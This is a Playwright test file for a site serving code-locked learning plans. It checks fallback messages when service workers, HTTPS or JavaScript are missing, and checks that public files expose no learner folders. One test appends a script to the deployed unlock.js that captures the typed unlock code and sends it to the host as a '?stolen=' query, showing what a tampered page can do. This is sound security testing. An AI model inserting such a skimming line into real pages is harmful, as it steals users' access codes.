"""Where a plan cannot be opened as usual: each says what to do, or shows the plan in another way."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from generator.publish.front import SAID
from tests.browser.conftest import ARGUMENTS, CHROMIUM
from tests.browser.sealed.door import PATIENCE, expect_locked, expect_said, field, hides, opener, type_code
from tests.browser.sealed.host import Host
from tests.browser.sealed.publications import ADA, TORVIK, Sealed
from tests.browser.sealed.visitor import Visitor

pytestmark = pytest.mark.browser

WORD = "puddlecake"
REFUSES = "ServiceWorkerContainer.prototype.register = () => Promise.reject(new DOMException('no', 'SecurityError'))"


@pytest.fixture(params=["delete Navigator.prototype.serviceWorker", REFUSES])
def without_workers(request: pytest.FixtureRequest, chromium: Browser) -> Iterator[BrowserContext]:
    """A private window, or the browser inside an app: there is no service worker, or none is allowed."""
    context = chromium.new_context()
    context.add_init_script(request.param)
    context.set_default_timeout(PATIENCE)
    yield context
    context.close()


def test_without_a_worker_the_whole_plan_is_one_page(
    first: Sealed, host: Host, without_workers: BrowserContext
) -> None:
    page = without_workers.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(host.url(first.folder(ADA)))
    type_code(page, first.code(TORVIK))
    expect_said(page, "other")
    type_code(page, first.code(ADA))
    whole = page.frame_locator("iframe")
    for words in ("Zelmira", WORD, "lanternfish", "Tallowbox strips on the wall"):
        expect(whole.get_by_text(words).first).to_be_attached()
    pictures = whole.locator("svg image").evaluate_all("all => all.map(each => each.getAttribute('href'))")
    assert pictures
    assert all(picture.startswith("data:") for picture in pictures)
    # Of the page's own origin, or it could not be printed; but nothing runs in it, and nothing is sent or led away.
    allowed = page.locator("iframe").evaluate("frame => [...frame.sandbox]")
    assert [each for each in allowed if each in ("allow-scripts", "allow-forms") or "top-navigation" in each] == []
    assert [url for url in asked if not url.startswith((host.address, "data:", "about:"))] == []
    page.get_by_role("button", name=SAID["lock"]).click()
    expect_locked(page)
    assert hides(page, WORD)


def test_without_a_worker_a_changed_plan_is_refused(first: Sealed, host: Host, without_workers: BrowserContext) -> None:
    host.says(f"{first.folder(ADA)}_pb/m", first.read(f"{first.folder(TORVIK)}_pb/m"))
    page = without_workers.new_page()
    page.goto(host.url(first.folder(ADA)))
    type_code(page, first.code(ADA))
    expect_said(page, "damaged")


def test_an_address_without_https_says_so(first: Sealed, host: Host, chromium: Browser) -> None:
    """Browsers give no keys there; the code must not be typed either."""
    mapped = [*ARGUMENTS, "--host-resolver-rules=MAP plans.test 127.0.0.1"]
    browser = chromium.browser_type.launch(executable_path=CHROMIUM, args=mapped)
    page = browser.new_page()
    address = host.url(first.folder(ADA)).replace("localhost", "plans.test")
    page.goto(address)
    expect_said(page, "insecure")
    expect(field(page)).to_have_count(0)
    expect(page.get_by_role("link")).to_have_attribute("href", address.replace("http:", "https:"))
    browser.close()


def test_without_javascript_it_says_what_is_needed(first: Sealed, host: Host, chromium: Browser) -> None:
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(host.url(f"{first.folder(ADA)}goal/g1/"))
    texts = page.locator("main p")
    expect(texts).to_have_count(3)
    assert texts.evaluate_all("all => all.map(each => each.lang)") == ["en", "ar", "es"]
    for each in texts.all():
        expect(each).to_be_visible()
    expect(texts.first).to_contain_text("JavaScript")
    assert page.locator("input").count() == 0
    context.close()


def test_the_folder_opened_from_a_disk_says_what_is_needed(first: Sealed, chromium: Browser) -> None:
    page = chromium.new_page()
    page.goto((first.site / first.folder(ADA) / "index.html").as_uri())
    expect(page.locator("main p").first).to_be_visible()
    expect(page.locator("main p").first).to_contain_text("https://")
    page.close()


@pytest.mark.parametrize(
    "missing",
    [
        "delete globalThis.DecompressionStream",
        "delete AbortSignal.timeout",
    ],
)
def test_a_browser_that_is_too_old_is_told_so(first: Sealed, host: Host, visitor: Visitor, missing: str) -> None:
    visitor.context.add_init_script(missing)
    page = visitor.tab()
    page.goto(host.url(first.folder(ADA)))
    expect_said(page, "old")
    expect(field(page)).to_have_count(0)


@pytest.mark.attack("folder-guess")
def test_where_there_is_no_plan_it_says_where_to_look(host: Host, visitor: Visitor) -> None:
    """Of a folder that could be one only the host knows that it is none."""
    page = visitor.tab()
    for path in ("", "s/", "s/nobody/", "goal/g1/"):
        page.goto(host.url(path))
        expect_said(page, "nowhere")
    page.goto(host.url("s/aaaaaaaaaaaaaaaa/"))
    type_code(page, "0000-0000-0000-0000-0000")
    expect_said(page, "gone")


@pytest.mark.attack("folder-guess")
def test_the_host_lists_no_folders(first: Sealed, host: Host, visitor: Visitor) -> None:
    """Nothing that is published for everybody names a learner's folder."""
    names = [first.folder(learner).split("/")[1] for learner in first.readers]
    everybody = [first.site / path for path in published(first) if not path.startswith("s/")]
    assert everybody
    for file in everybody:
        content = file.read_bytes().decode("utf-8", "replace")
        assert [name for name in names if name in content] == [], file


@pytest.mark.attack("hostile-stub")
def test_limit_who_changes_the_page_at_the_door_gets_the_code(first: Sealed, host: Host, visitor: Visitor) -> None:
    """Nobody can check a page before it runs. So deployed files are compared with what was built."""
    script = next(path for path in published(first) if path.endswith("unlock.js"))
    evil = b"document.addEventListener('input', event => { location = '/?stolen=' + event.target.value })"
    host.says(script, first.read(script) + evil)
    page = visitor.tab()
    page.goto(host.url(first.folder(ADA)))
    expect(opener(page)).to_be_enabled()
    field(page).fill(first.code(ADA))
    page.wait_for_url("**/?stolen=*")
    assert [asked.path for asked in host.log if first.code(ADA) in asked.path]


def published(sealed: Sealed) -> tuple[str, ...]:
    return tuple(path.relative_to(sealed.site).as_posix() for path in sealed.site.rglob("*") if path.is_file())
